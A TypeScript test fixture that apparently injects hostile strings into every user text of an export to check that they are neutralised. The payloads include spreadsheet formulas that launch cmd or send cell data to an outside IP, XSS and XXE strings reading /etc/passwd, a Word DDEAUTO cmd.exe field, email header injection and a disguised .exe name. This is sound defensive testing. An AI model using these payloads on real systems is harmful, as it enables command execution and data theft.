/** What people write who wish a reader ill, or who pasted it from somewhere: each goes into every text of every export. */
export const hostileTexts: Readonly<Record<string, string>> = {
  'a command': "=cmd|'/C calc'!A0",
  'a link': '=HYPERLINK("http://203.0.113.9/?"&A1,"点击")',
  plus: '+1+1',
  minus: '-1+cmd',
  at: '@SUM(1+1)',
  'a tab before it': '\t=1+1',
  'a line end before it': '\r=1+1\n-2',
  'full width': '＝1+1',
  'an apostrophe before it': "'=1+1",
  'an unseen sign before it': '\u200b\u2060=1+1',
  'a separator first': '",=1+1\r\n=2+2,"',
  script: '<script>alert(1)</script>',
  'the end of a section': ']]><x/><![CDATA[',
  'a comment': '--><!-- <!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]> &e;',
  'an image': '"><img src=x onerror=alert(1)>',
  'an attribute': "' onmouseover='alert(1)",
  'an address': 'javascript:alert(1)',
  entities: '&lt;b&gt;&#60;&amp;&nbsp;',
  'marks of Word': '</w:t></w:r><w:fldSimple w:instr="DDEAUTO c:\\\\cmd.exe"/>{{x}}',
  'marks of PDF': '(a\\) /JS (app.alert(1)) endobj >> stream',
  'an escape of workbooks': '_x0041__x000D_',
  'a template': '{{{secret}}} {{#x}}{{/x}} $& $1 $`',
  headers: 'a\r\nBcc: x@example.com\r\n\r\n<b>',
  controls: 'a\u0000b\u0007c\u001bd\u007fe\u0085f',
  'half a sign': 'a\ud842b\udc00c',
  'no signs': 'a\ufffeb\uffffc',
  direction: '\u202egpj.exe\u2066x\u2069',
  '10,000 signs': '=政务云'.repeat(2500),
}

/** Words of which no text may have another: what a switch or a key turns on. */
const kept = /^(kind|state|basis|payer|id|act|at|on|from|to|day|date|align|weighs|panel|key|tone|column|link|level|url|code)$|Id$|At$/
const plain = /^(-?\d+(\.\d+)?|\d{4}-\d\d-\d\d.*|[0-9a-f-]{36})$/

/** The value with the hostile text in the place of every text that people bring into it; ids, days, amounts and what a program decides by stay. */
export function withTexts<T>(value: T, hostile: string, name = ''): T {
  if (Array.isArray(value)) return value.map((each) => withTexts(each, hostile, name)) as T
  if (typeof value === 'object' && value !== null)
    return Object.fromEntries(Object.entries(value).map(([key, each]) => [key, withTexts(each, hostile, key)])) as T
  return (typeof value === 'string' && !kept.test(name) && !plain.test(value) ? hostile : value) as T
}
